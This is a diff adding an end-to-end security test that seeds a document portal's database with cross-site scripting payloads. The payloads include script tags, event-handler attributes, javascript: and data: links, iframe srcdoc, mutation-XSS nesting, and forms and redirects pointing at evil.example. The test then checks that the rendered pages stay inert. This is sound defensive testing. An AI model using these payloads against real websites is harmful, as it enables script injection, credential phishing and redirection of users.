@@ -1,0 +1,171 @@
+import type { Page } from "playwright-core";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { startBrowser, type TestBrowser } from "#tests/support/browser.ts";
+import { startDemoPortal } from "#tests/support/demo-portal.ts";
+import { expectNoAxeViolationsAtAnyWidth } from "#tests/support/expect-accessible.ts";
+import type { Portal } from "#tests/support/portal.ts";
+
+const WRITER = "writer@demo.test";
+
+/** Each would set `attacked`, or ask another host for something, if it were let. */
+const ATTACKS = [
+  `<img src="/x" onerror="window.attacked='img'">`,
+  `<script>window.attacked='script'</script>`,
+  `<svg onload="window.attacked='svg'"><script>window.attacked='svg script'</script></svg>`,
+  `<a href="javascript:window.attacked='link'" onclick="window.attacked='click'">press me</a>`,
+  `<a href="  java\tscript:window.attacked='spaced link'">press me</a>`,
+  `<a href="data:text/html,<script>window.attacked='data'</script>">press me</a>`,
+  `<iframe srcdoc="<script>parent.attacked='frame'</script>"></iframe>`,
+  `<object data="javascript:window.attacked='object'"></object><embed src="https://evil.example/embed">`,
+  `<math><mtext><table><mglyph><style><img src="/x" onerror="window.attacked='math'"></style></mglyph></table></mtext></math>`,
+  `<noscript><p title="</noscript><img src=/x onerror=window.attacked='noscript'>"></noscript>`,
+  `<style>@import "https://evil.example/style.css"; * { background: url(https://evil.example/pixel) }</style>`,
+  `<p style="background:url(https://evil.example/pixel)" onmouseover="window.attacked='mouse'">hover over me</p>`,
+  `<form action="https://evil.example"><input name="password" autofocus onfocus="window.attacked='focus'"><button>Sign in</button></form>`,
+  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
+  `<details open ontoggle="window.attacked='toggle'"><summary>More</summary></details>`,
+].join("\n");
+
+const TEXT = `"><img src=/x onerror="window.attacked='text'">`;
+const ADDRESS = "javascript:window.attacked='address'";
+
+const PAGE = {
+  root: { props: { title: `</title>${TEXT}` } },
+  content: [
+    { type: "Heading", props: { id: "heading", text: TEXT, size: "title", anchor: TEXT, textColor: TEXT } },
+    { type: "Paragraph", props: { id: "paragraph", text: `Before. ${ATTACKS} <strong>After.</strong>` } },
+    { type: "List", props: { id: "list", items: [{ title: TEXT }] } },
+    { type: "Button", props: { id: "button", text: "A button", link: ADDRESS, backgroundColor: TEXT } },
+    { type: "Image", props: { id: "image", src: ADDRESS, alt: TEXT, width: TEXT, sizeMode: "custom" } },
+    {
+      type: "Container",
+      props: {
+        id: "container",
+        backgroundImage: `x"); background: url(${ADDRESS}`,
+        maxWidth: TEXT,
+        content: [{ type: "Paragraph", props: { id: "nested", text: ATTACKS } }],
+      },
+    },
+    {
+      type: "WorkOrders",
+      props: {
+        id: "prices",
+        globalDiscountName: TEXT,
+        globalDiscountPercent: 5,
+        workOrderData: { workOrderIds: ["wo-3103"] },
+      },
+    },
+    {
+      type: "Footer",
+      props: {
+        id: "footer",
+        businessName: TEXT,
+        abn: TEXT,
+        address: TEXT,
+        termsLink: ADDRESS,
+        contactEmail: TEXT,
+      },
+    },
+  ],
+};
+
+let portal: Portal;
+let browser: TestBrowser;
+beforeAll(async () => {
+  // Straight into the database: past all that cleans it on the way in.
+  portal = await startDemoPortal({
+    statements: [
+      {
+        text: "update unique_documents set puck_state = $1, name = $2 where unique_document_id = 'doc-1042'",
+        values: [JSON.stringify(PAGE), TEXT],
+      },
+      {
+        text: "update work_orders set description = $1, name = $2, discount_name = $2 where work_order_id = 'wo-3103'",
+        values: [ATTACKS, TEXT],
+      },
+      { text: "update products set product_name = $1, product_unit = $1", values: [TEXT] },
+      {
+        text: "update general_documents set rich_text = $1 where general_document_id = 'general-terms'",
+        values: [`<p>Terms.</p>${ATTACKS}`],
+      },
+      {
+        text: "update notifications set message = $1 where user_profile_id = 'demo-writer'",
+        values: [TEXT],
+      },
+    ],
+  });
+  browser = await startBrowser(portal.url);
+});
+afterAll(async () => {
+  await browser?.close();
+  await portal?.remove();
+});
+
+/** Does what a curious person would: nothing of it may lead anywhere. */
+async function touchEverything(page: Page): Promise<void> {
+  const before = page.url();
+  for (const words of ["press me", "hover over me", "A button"]) {
+    for (const place of await page.getByText(words, { exact: true }).all()) {
+      await place.hover();
+      await place.click();
+    }
+  }
+  expect(page.url()).toBe(before);
+}
+
+/** Fails if anything of an attack is there or has run. */
+async function expectHarmless(page: Page): Promise<void> {
+  const found = await page.evaluate(() => {
+    const everything = [...document.body.querySelectorAll("*")];
+    const attributes = everything.flatMap((one) => [...one.attributes]);
+    return {
+      attacked: (globalThis as { attacked?: string }).attacked,
+      handlers: attributes.filter(({ name }) => name.startsWith("on")).map(({ name }) => name),
+      addresses: attributes
+        .filter(
+          ({ name, value }) =>
+            ["href", "src", "action"].includes(name) && /^\s*(java|data:text)/i.test(value),
+        )
+        .map(({ value }) => value),
+      elements: [
+        ...document.body.querySelectorAll(
+          "main :is(script, iframe, object, embed, style, form, input[name], base, meta)",
+        ),
+      ].map((one) => one.outerHTML),
+    };
+  });
+  expect(found).toEqual({ attacked: undefined, handlers: [], addresses: [], elements: [] });
+}
+
+test("BLOCK-18 VIEW-1 a document that is an attack in every field is shown, and does nothing", async () => {
+  const page = await browser.openPage("/doc/online-store-and-wholesale-portal", { as: WRITER });
+  await page.getByText("After.", { exact: true }).waitFor();
+  await page.getByRole("button", { name: "Accept", exact: true }).waitFor();
+  await touchEverything(page);
+  await expectHarmless(page);
+  expect(await page.title()).toContain("</title>");
+  // However long a word is, no figure is pushed off the paper.
+  const paper = page.locator("[data-sheet]");
+  expect(await paper.evaluate((one) => one.scrollWidth <= one.clientWidth)).toBe(true);
+  // What is meant as text is shown as text.
+  expect(await page.getByRole("heading", { name: TEXT }).count()).toBeGreaterThan(1);
+  await expectNoAxeViolationsAtAnyWidth(page);
+  await page.getByRole("button", { name: "Accept", exact: true }).click();
+  await page.getByRole("dialog").waitFor();
+  await expectHarmless(page);
+});
+
+test.each([
+  "/work-orders/wo-3103",
+  "/general-document/general-terms",
+  "/dashboard",
+  "/documents/type/PROPOSAL",
+])("BLOCK-18 WORK-2 SIGN-2 the same words on %s do nothing", async (path) => {
+  const page = await browser.openPage(path, { as: WRITER });
+  await page
+    .getByText(/onerror|hover over me/)
+    .first()
+    .waitFor();
+  await touchEverything(page);
+  await expectHarmless(page);
+});
